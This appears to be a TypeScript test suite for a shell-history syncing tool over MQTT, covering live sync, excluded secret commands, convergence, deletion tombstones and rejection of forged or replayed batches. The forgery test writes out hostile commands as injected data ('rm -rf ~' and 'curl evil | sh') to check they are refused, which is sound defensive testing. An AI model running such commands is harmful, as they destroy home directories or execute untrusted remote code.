import assert from 'node:assert/strict';
import { test } from 'node:test';
import { openStore, type Store } from '../../../node/core/store/store.ts';
import { forgetMarker, heldMap, peerSyncStatus } from '../../../node/core/store/sync-state.ts';
import { sealEnvelope } from '../../../schemas/envelope.ts';
import { topics } from '../../../schemas/topics.ts';
import { makeKeys, seedRoster, startPlainBroker } from '../../helpers/bus-nodes.ts';
import { type SyncNode, startSyncNode } from '../../helpers/sync-node.ts';
import { tempDir, waitFor } from '../../helpers/tmp.ts';

function dump(store: Store): string[] {
  return store.db
    .prepare<[], { origin: string; seq: number; command: string; exit: number | null }>(
      'SELECT origin, seq, command, exit FROM commands ORDER BY origin, seq',
    )
    .all()
    .map((r) => `${r.origin}#${r.seq} ${r.exit} ${r.command}`);
}

test('live sync: a new record reaches the peer within a second; output and excluded commands stay home', async (t) => {
  const broker = await startPlainBroker(t);
  const a = makeKeys('alpha');
  const b = makeKeys('beta');
  const na = await startSyncNode(t, a, [a, b], broker.url);
  const nb = await startSyncNode(t, b, [a, b], broker.url);
  await waitFor(() => na.session.state.connected && nb.session.state.connected, 'both connected');
  na.store.config.set('sync.exclude', 'vault *, --token');
  const started = Date.now();
  na.store.history.record({ command: 'make deploy', exit: 0, output: 'deployed secretly', cwd: '/srv' });
  await waitFor(() => nb.store.history.count() === 1, 'beta has the record', 5000);
  assert.ok(Date.now() - started < 1000, `took ${Date.now() - started} ms`);
  const row = nb.store.history.recent(1)[0]!;
  assert.deepEqual(
    [row.origin, row.seq, row.command, row.cwd, row.output],
    ['alpha', 1, 'make deploy', '/srv', null],
  );

  na.store.history.record({ command: 'vault login -method=userpass', exit: 0 });
  na.store.history.record({ command: 'deploy --token abc', exit: 0 });
  na.store.history.record({ command: 'ls', exit: 0 });
  await waitFor(() => heldMap(nb.store.db).alpha === 4, 'beta holds alpha 1..4 (two withheld)');
  assert.deepEqual(dump(nb.store), ['alpha#1 0 make deploy', 'alpha#4 0 ls']);
  await waitFor(() => na.sync.peerCounts().beta?.lastAck !== undefined, 'PUBACK marks beta synced');
  const state = na.store.db
    .prepare("SELECT max_seq, last_sync FROM sync_state WHERE peer = 'beta' AND origin = 'alpha'")
    .get() as { max_seq: number; last_sync: number | null };
  assert.equal(state.max_seq, 4);
  assert.ok(state.last_sync !== null);
  assert.deepEqual(
    peerSyncStatus(na.store.db, 'alpha', ['beta']).map((p) => [p.peer, p.lag, p.lastSync !== null]),
    [['beta', 0, true]],
  );

  na.store.config.set('sync.output', 'on');
  na.store.history.record({ command: 'uptime', exit: 0, output: 'up 3 days' });
  await waitFor(() => nb.store.history.count() === 3, 'beta has uptime');
  assert.equal(nb.store.history.recent(1)[0]!.output, 'up 3 days');
});

test('three machines, one offline half the time: afterwards all hold the same rows, none twice', async (t) => {
  const broker = await startPlainBroker(t);
  const keys = [makeKeys('m1'), makeKeys('m2'), makeKeys('m3')];
  const homes = keys.map(() => tempDir(t));
  const nodes = await Promise.all(keys.map((k, i) => startSyncNode(t, k, keys, broker.url, homes[i])));
  await waitFor(() => nodes.every((n) => n.session.state.connected), 'all connected');
  const PER = 1000;
  let m3: SyncNode = nodes[2]!;
  for (let i = 0; i < PER; i++) {
    if (i === PER / 4) await m3.stop();
    if (i === (3 * PER) / 4) {
      m3 = await startSyncNode(t, keys[2]!, keys, broker.url, homes[2]);
      nodes[2] = m3;
    }
    for (const n of nodes) {
      if (n === m3 && i >= PER / 4 && i < (3 * PER) / 4) {
        // m3 is offline but its user keeps working: written to its database directly.
        const offline = openStore(homes[2]!);
        offline.history.record({ command: `work ${i} on m3`, exit: i % 7 === 0 ? 1 : 0 });
        offline.close();
        continue;
      }
      n.store.history.record({ command: `work ${i} on ${n.name}`, exit: i % 7 === 0 ? 1 : 0 });
    }
    if (i % 50 === 0) await new Promise((r) => setTimeout(r, 20));
  }
  await waitFor(() => nodes.every((n) => n.store.history.count() === 3 * PER), 'all hold 3x rows', 30_000);
  const first = dump(nodes[0]!.store);
  assert.equal(new Set(first).size, 3 * PER);
  for (const n of nodes) assert.deepEqual(dump(n.store), first, `${n.name} differs`);

  // A fourth machine joins later and catches up to the same rows.
  const late = makeKeys('m4');
  const all = [...keys, late];
  for (const n of nodes) seedRoster(n.store, [late]);
  const n4 = await startSyncNode(t, late, all, broker.url);
  // The members notice the new roster entry and ask it (this is where a request reaches them).
  for (const n of nodes) n.sync.requestCatchUp(['m4']);
  await waitFor(() => n4.store.history.count() === 3 * PER, 'm4 caught up', 30_000);
  assert.deepEqual(dump(n4.store), first);
});

test('forged and replayed batches are refused; a forgotten record never comes back, even after force', async (t) => {
  const broker = await startPlainBroker(t);
  const a = makeKeys('alpha');
  const b = makeKeys('beta');
  const mallory = makeKeys('mallory');
  const members = [a, b, mallory];
  const na = await startSyncNode(t, a, members, broker.url);
  const nb = await startSyncNode(t, b, members, broker.url);
  await waitFor(() => na.session.state.connected && nb.session.state.connected, 'connected');
  na.store.history.record({ command: 'echo one', exit: 0 });
  na.store.history.record({ command: 'echo secret thing', exit: 0 });
  await waitFor(() => nb.store.history.count() === 2, 'beta has both');

  // mallory is a member but signs a batch claiming alpha's series.
  const forged = sealEnvelope(
    {
      type: 'history-batch',
      from: 'mallory',
      to: 'beta',
      ttlMs: 60_000,
      body: { records: [{ origin: 'alpha', seq: 3, ts: Date.now(), command: 'rm -rf ~' }] },
    },
    mallory.sign.secretKey,
    b.box.publicKey,
  );
  // and a batch with alpha's name but mallory's signature.
  const wrongSig = sealEnvelope(
    {
      type: 'history-batch',
      from: 'alpha',
      to: 'beta',
      ttlMs: 60_000,
      body: { records: [{ origin: 'alpha', seq: 4, ts: Date.now(), command: 'curl evil | sh' }] },
    },
    mallory.sign.secretKey,
    b.box.publicKey,
  );
  const { default: mqtt } = await import('mqtt');
  const client = await mqtt.connectAsync(broker.url, {
    clientId: 'mallory',
    username: 'mallory',
    password: 'x',
  });
  t.after(() => client.endAsync());
  await client.publishAsync(topics.inbox('beta', 'history'), Buffer.from(forged.payload), { qos: 1 });
  await client.publishAsync(topics.inbox('beta', 'history'), Buffer.from(wrongSig.payload), { qos: 1 });
  // replay of a genuine batch: re-publish alpha's first outgoing payload is not possible after
  // PUBACK, so seal one genuinely from alpha and send it twice.
  const genuine = sealEnvelope(
    {
      type: 'history-batch',
      from: 'alpha',
      to: 'beta',
      ttlMs: 60_000,
      body: { records: [{ origin: 'alpha', seq: 1, ts: 1, command: 'echo one' }] },
    },
    a.sign.secretKey,
    b.box.publicKey,
  );
  await client.publishAsync(topics.inbox('beta', 'history'), Buffer.from(genuine.payload), { qos: 1 });
  await client.publishAsync(topics.inbox('beta', 'history'), Buffer.from(genuine.payload), { qos: 1 });
  await waitFor(() => nb.logs.some((l) => l.startsWith('refused (replay)')), 'replay refused');
  await waitFor(
    () => nb.logs.some((l) => /refused a batch from mallory carrying records of alpha/.test(l)),
    'forgery refused',
  );
  await waitFor(
    () => nb.logs.some((l) => /^refused \(bad-signature\): .*signature/.test(l)),
    'bad signature refused',
  );
  assert.deepEqual(dump(nb.store), ['alpha#1 0 echo one', 'alpha#2 0 echo secret thing']);

  // beta (an admin in alpha's roster: only an admin may delete another machine's records) forgets
  // the secret: the tombstone reaches alpha, and force-sync brings nothing back.
  na.store.machines.applyRoster({
    name: 'beta',
    signPk: b.sign.publicKey,
    boxPk: b.box.publicKey,
    added: 1,
    admin: true,
  });
  const target = nb.store.history.recent(10).find((r) => r.command.includes('secret'))!;
  nb.store.history.forget([target.id], forgetMarker('beta'));
  await waitFor(() => na.store.history.count() === 1, 'alpha deleted it too');
  na.sync.requestCatchUp(undefined, { force: true });
  nb.sync.requestCatchUp(undefined, { force: true });
  na.store.history.record({ command: 'echo after', exit: 0 });
  await waitFor(() => nb.store.history.count() === 2, 'beta got the new record');
  await new Promise((r) => setTimeout(r, 300));
  assert.deepEqual(dump(na.store), ['alpha#1 0 echo one', 'alpha#3 0 echo after']);
  assert.deepEqual(dump(nb.store), dump(na.store));

  // beta clearing its local copy of everyone's history (/clear history --all) stays on beta.
  nb.store.history.clearAll('beta');
  nb.store.history.record({ command: 'beta after clear', exit: 0 });
  await waitFor(() => na.store.history.count() === 3, 'alpha got beta record');
  assert.deepEqual(dump(na.store), [
    'alpha#1 0 echo one',
    'alpha#3 0 echo after',
    'beta#1 0 beta after clear',
  ]);
  assert.deepEqual(dump(nb.store), ['beta#1 0 beta after clear']);

  // /clear history on alpha: seqs are never reused, so new records still reach beta.
  na.store.history.clearOwn('alpha');
  na.store.history.record({ command: 'fresh start', exit: 0 });
  await waitFor(() => nb.store.history.count() === 2, 'new record after clear reaches beta');
  assert.deepEqual(dump(nb.store), ['alpha#4 0 fresh start', 'beta#1 0 beta after clear']);
  assert.deepEqual(dump(na.store), ['alpha#4 0 fresh start', 'beta#1 0 beta after clear']);
});

test('/sync reports what moved per peer; /sync force re-runs from zero and ends with the same rows', async (t) => {
  const broker = await startPlainBroker(t);
  const a = makeKeys('alpha');
  const b = makeKeys('beta');
  const na = await startSyncNode(t, a, [a, b], broker.url);
  await waitFor(() => na.session.state.connected, 'alpha connected');
  na.store.history.recordMany(Array.from({ length: 50 }, (_, i) => ({ command: `task ${i}`, exit: 0 })));
  const nb = await startSyncNode(t, b, [a, b], broker.url);
  nb.store.history.record({ command: 'beta only', exit: 0 });
  const report = await nb.sync.syncNow({ quietMs: 2000, timeoutMs: 60_000 });
  assert.equal(report.settled, true);
  assert.equal(report.peers.alpha!.received, 50);
  // live push and the answer to alpha's catch-up request may both carry it (inserts are idempotent)
  assert.ok(
    report.peers.alpha!.sent >= 1 && report.peers.alpha!.sent <= 2,
    `sent ${report.peers.alpha!.sent}`,
  );
  await waitFor(() => na.store.history.count() === 51, 'alpha has beta record');

  const before = dump(nb.store);
  const forced = await na.sync.syncNow({ force: true, quietMs: 2000, timeoutMs: 60_000 });
  assert.equal(forced.settled, true);
  assert.equal(forced.peers.beta!.sent, 50, 'force resends our whole series');
  assert.equal(forced.peers.beta!.received, 0, 'nothing new came back');
  assert.deepEqual(dump(nb.store), before);
  assert.deepEqual(dump(na.store), before);
});
